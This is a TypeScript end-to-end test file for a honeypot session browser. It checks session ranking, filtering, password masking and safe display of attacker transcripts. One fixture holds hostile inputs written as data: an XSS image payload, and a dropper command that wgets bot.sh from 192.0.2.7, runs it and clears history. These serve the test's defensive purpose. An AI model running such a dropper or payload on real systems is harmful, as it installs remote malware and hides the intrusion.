import type {Page} from "playwright-core";
import {describe, expect, it} from "vitest";
import type {TimeRange} from "../../src/engine/selection.js";
import {logFile, openLogs} from "./open-logs.js";
import {openPage, settle} from "./open-page.js";
import {useTestedSite} from "./tested-site.js";
import {visit} from "./visit.js";

const site = useTestedSite();

const open = (search = "") => visit(site.browser, `${site.url}sessions.html${search}`);

const overlaps = ({from, to}: TimeRange) => `first_time < epoch_ms(${to}) AND last_time >= epoch_ms(${from})`;

/** As the page says that it ranks, by the columns that it says so of. */
const worstFirst = `list_position(['none', 'low', 'medium', 'high', 'critical'], severity) DESC, attack_kinds DESC,
  downloads DESC, own_commands DESC, accepted_logins > 0 DESC, duration DESC, first_time, session_id`;

const nativeIds = async (where: string, order = worstFirst, limit = 15, offset = 0) =>
  (
    await site.native.rows(
      `SELECT session_id FROM sessions WHERE ${where} ORDER BY ${order} LIMIT ${limit} OFFSET ${offset}`
    )
  ).map(row => row.session_id);

const shown = (page: Page) =>
  page
    .locator(".session-browser tbody tr")
    .evaluateAll(rows => rows.map(row => row.getAttribute("data-session")));

async function opened(page: Page): Promise<void> {
  await page.locator('.session-lines[data-state="ready"]').waitFor();
  await page.locator('[data-testid="session-alerts"][data-state="ready"]').waitFor();
}

describe("sessions", () => {
  it("are those that overlap the window, the worst first, fifteen to a page", async () => {
    const {from, to} = site.native.overview.default;
    const day = {from: to - 2 * 86_400_000, to: to - 86_400_000};
    for (const window of [{from, to}, day]) {
      const visited = await open(
        `?from=${new Date(window.from).toISOString()}&to=${new Date(window.to).toISOString()}`
      );
      const where = overlaps(window);
      expect(await visited.total("sessions")).toBe(
        await site.native.number(
          `SELECT count(*) FROM events JOIN sessions USING (dataset, session) WHERE events.sensor IS NOT DISTINCT FROM
           sessions.sensor AND event_type IN ('cowrie.command.input', 'dionaea.command') AND ${where}`
        )
      );
      expect(Number(await visited.frame("sessions").getAttribute("data-rows"))).toBe(
        await site.native.number(`SELECT count(*) FROM sessions WHERE ${where}`)
      );
      expect(await shown(visited.page)).toEqual(await nativeIds(where));
      await visited.page.getByRole("button", {name: "Next"}).click();
      expect(await shown(visited.page)).toEqual(await nativeIds(where, worstFirst, 15, 15));
      await visited.close();
    }
  });

  it("follow the severity, the dataset and the source", async () => {
    const window = site.native.overview.default;
    const [row] = await site.native.rows(
      `SELECT source_ip FROM sessions WHERE ${overlaps(window)} AND severity = 'low' ORDER BY session_id LIMIT 1`
    );
    for (const [search, where] of [
      ["?severity=low,none", "severity IN ('low', 'none')"],
      [`?dataset=cowrie&source=${row?.source_ip}`, `source_ip = '${row?.source_ip}'`]
    ] as const) {
      const visited = await open(search);
      expect(await shown(visited.page), search).toEqual(await nativeIds(`${overlaps(window)} AND ${where}`));
      await visited.close();
    }
  });

  it("are searched, and put in another order", async () => {
    const visited = await open();
    const where = overlaps(site.native.overview.default);
    await visited.page.getByLabel("Order of sessions").selectOption("latest first");
    const [latest] = await site.native.rows(
      `SELECT max(first_time) = (SELECT first_time FROM sessions WHERE session_id = '${(await shown(visited.page))[0]}') AS is_latest
       FROM sessions WHERE ${where}`
    );
    expect(latest?.is_latest).toBe(true);
    await visited.page.getByLabel("Order of sessions").selectOption("worst first");
    const [worst] = await site.native.rows(
      `SELECT source_ip FROM sessions WHERE ${where} ORDER BY ${worstFirst} LIMIT 1`
    );
    await visited.page.getByLabel("Search sessions").fill(String(worst?.source_ip));
    expect(await shown(visited.page)).toEqual(
      await nativeIds(`${where} AND source_ip = '${worst?.source_ip}'`)
    );
    await visited.close();
  });

  it("of a window without any are none, with a sentence that says which logs have some", async () => {
    const visited = await open("?from=2190-01-01&to=2190-01-02");
    const text = await visited.page.getByTestId("sessions-finding").textContent();
    expect(text).toContain("No honeypot sessions in this selection.");
    expect(text).toContain("Cowrie's JSON log");
    expect(await visited.frame("sessions").getAttribute("data-state")).toBe("empty");
    await visited.close();
  });
});

describe("a session", () => {
  it("that is the worst is named first, and opens from its name with what was typed and found in it", async () => {
    const visited = await open();
    const [id] = await nativeIds(overlaps(site.native.overview.default), worstFirst, 1);
    const [row] = await site.native.rows(
      `SELECT dataset, sensor, session, source_ip, username, commands, downloads FROM sessions WHERE session_id = '${id}'`
    );
    const headline = await visited.page.getByTestId("sessions-finding").textContent();
    expect(headline).toContain("The worst: ");
    expect(headline).toContain(`by ${row?.source_ip} on `);
    expect(headline).toContain(`after logging in as ${row?.username}; it `);
    expect(headline).toContain(`${row?.commands} command`);
    await visited.page.getByTestId("worst-session").click();
    await opened(visited.page);
    expect(new URL(visited.page.url()).searchParams.get("session")).toBe(id);

    const own = `dataset = '${row?.dataset}' AND session = '${row?.session}' AND sensor IS NOT DISTINCT FROM '${row?.sensor}'`;
    const commands = await site.native.rows(
      `SELECT command FROM events JOIN details USING (event_id) WHERE ${own} AND event_type = 'cowrie.command.input' ORDER BY event_time`
    );
    const typed = await visited.page
      .locator('.transcript-line[data-kind="command"] .transcript-what > .log-text')
      .allTextContents();
    expect(typed).toEqual(commands.map(({command}) => command));

    const found = await site.native.rows(
      `SELECT event_id, signature_id AS rule FROM events JOIN signature_hits USING (event_id) WHERE ${own}
       UNION SELECT event_id, rule_id FROM events JOIN rule_hits USING (event_id) WHERE ${own}
       UNION SELECT event_id, list FROM events JOIN indicator_hits USING (event_id) WHERE ${own}`
    );
    const marked = await visited.page
      .locator(".transcript-findings li")
      .evaluateAll(items =>
        items.map(
          item =>
            `${item.closest("[data-event]")?.getAttribute("data-event")} ${item.getAttribute("data-rule")}`
        )
      );
    expect(marked.toSorted()).toEqual(found.map(({event_id, rule}) => `${event_id} ${rule}`).toSorted());
    expect(found.length).toBeGreaterThan(0);
    await visited.page.keyboard.press("Escape");
    await expect.poll(() => new URL(visited.page.url()).search).toBe("");
    await visited.close();
  });

  it("opens from its address whatever is selected, hides passwords until they are shown, and leads to its alerts and its lines", async () => {
    const [row] = await site.native.rows(
      `SELECT s.session_id, d.password, e.event_id FROM sessions s JOIN events e USING (dataset, session)
       JOIN details d USING (event_id) WHERE e.event_type = 'cowrie.login.success' AND s.app_protocol = 'TELNET'
         AND length(d.password) > 4 ORDER BY s.rank, e.event_id LIMIT 1`
    );
    const visited = await open(`?session=${row?.session_id}&severity=critical`);
    const {page} = visited;
    await opened(page);
    const panel = page.getByTestId("session-panel");
    expect(await panel.getAttribute("data-session")).toBe(row?.session_id);
    const line = page.locator(`.transcript-line[data-event="${row?.event_id}"]`);
    const original = line.locator(".transcript-raw");
    await original.locator("summary").click();
    await original.locator("pre").waitFor();
    expect(await line.textContent()).not.toContain(String(row?.password));
    await page.getByTestId("show-passwords").click();
    expect(await line.locator(".transcript-what").textContent()).toContain(` with ${row?.password}`);
    await original.locator("summary").click();
    await original.locator("pre").waitFor();
    const raw = await site.native.rows(`SELECT raw FROM raw WHERE event_id = '${row?.event_id}'`);
    expect(await original.locator("pre").textContent()).toBe(raw[0]?.raw);

    const alert = page.getByTestId("session-alerts").locator('a[href*="alert="]').first();
    await alert.click();
    await page.waitForURL("**/alerts.html?*alert=*");
    await page.getByTestId("alert-panel").waitFor();
    await visited.close();
  });
});

it("the Overview names the worst session of its window and leads to it", async () => {
  const visited = await visit(site.browser, `${site.url}index.html`);
  const line = visited.page.locator('[data-testid="worst-honeypot-session"][data-state="ready"]');
  await line.waitFor();
  const [id] = await nativeIds(overlaps(site.native.overview.default), worstFirst, 1);
  const link = line.locator("a");
  expect(await link.getAttribute("data-session")).toBe(id);
  await link.click();
  await visited.page.waitForURL("**/sessions.html?*session=*");
  await opened(visited.page);
  expect(await visited.page.getByTestId("session-panel").getAttribute("data-session")).toBe(id);
  await visited.close();
});

/** A visit as Cowrie logs it, a second between its events. */
function visitOf(
  session: string,
  from: string,
  events: readonly Readonly<Record<string, unknown>>[]
): string {
  const all = [
    {eventid: "cowrie.session.connect", src_port: 40_000, dst_ip: "10.0.0.5", dst_port: 22, protocol: "ssh"},
    ...events,
    {eventid: "cowrie.session.closed", duration: events.length + 1}
  ];
  return all
    .map((event, i) => {
      const timestamp = new Date(Date.UTC(2022, 4, 30, 3, 12, i)).toISOString().replace("Z", "000Z");
      return `${JSON.stringify({...event, src_ip: from, session, sensor: "pot", timestamp})}\n`;
    })
    .join("");
}

const login = (ok: boolean, password = "hunter2") => ({
  eventid: `cowrie.login.${ok ? "success" : "failed"}`,
  username: "root",
  password
});
const typed = (input: string) => ({eventid: "cowrie.command.input", input});

it("a newcomer who opens one Cowrie file finds the worst session in it, whatever its visitor wrote", async () => {
  const hostile = `echo '<img src=x onerror=alert(1)>\u202e\u0007' ${"x".repeat(1000)}`;
  const log = [
    visitOf(
      "guesser",
      "45.148.10.1",
      Array.from({length: 30}, (_, i) => login(false, `p${i}`))
    ),
    visitOf("looker", "45.148.10.2", [
      login(true),
      ...Array.from({length: 20}, () => typed("cat /proc/cpuinfo | grep name"))
    ]),
    visitOf("bad", "45.148.10.3", [
      login(true),
      typed(hostile),
      typed("cd /tmp; wget http://192.0.2.7/bot.sh; chmod 777 bot.sh; sh bot.sh; history -c"),
      {
        eventid: "cowrie.session.file_download",
        url: "http://192.0.2.7/bot.sh",
        shasum: "ab".repeat(32),
        outfile: `dl/${"ab".repeat(32)}`
      }
    ])
  ].join("");
  const {page, errors, foreignRequests, close} = await openPage(site.browser, `${site.url}sessions.html`);
  await settle(page);
  await openLogs(page, [logFile("cowrie.json", log)]);
  await page.goto(`${site.url}sessions.html`);
  await settle(page);
  const headline = page.getByTestId("sessions-finding");
  expect(await headline.textContent()).toContain(
    "The worst: 2 commands and 1 file by 45.148.10.3 on 30 May 2022, 03:12 UTC, after logging in as root; it fetched a program and made it run"
  );
  const sources = await page.locator('.session-browser td[data-column="source_ip"]').allTextContents();
  expect(sources).toEqual(["45.148.10.3", "45.148.10.2", "45.148.10.1"]);
  await page.getByTestId("worst-session").click();
  await opened(page);
  const command = page.locator('.transcript-line[data-kind="command"]').first().locator(".transcript-what");
  expect(await command.textContent()).toContain("<img src=x onerror=alert(1)>‹U+202E›␇'");
  expect(await page.locator(".transcript img").count()).toBe(0);
  expect((await command.textContent())?.length).toBeLessThan(600);
  await command.getByRole("button", {name: /^Show all 1,0\d\d characters$/}).click();
  expect(await command.textContent()).toContain("x".repeat(1000));
  expect(errors).toEqual([]);
  expect(foreignRequests).toEqual([]);
  await close();
});
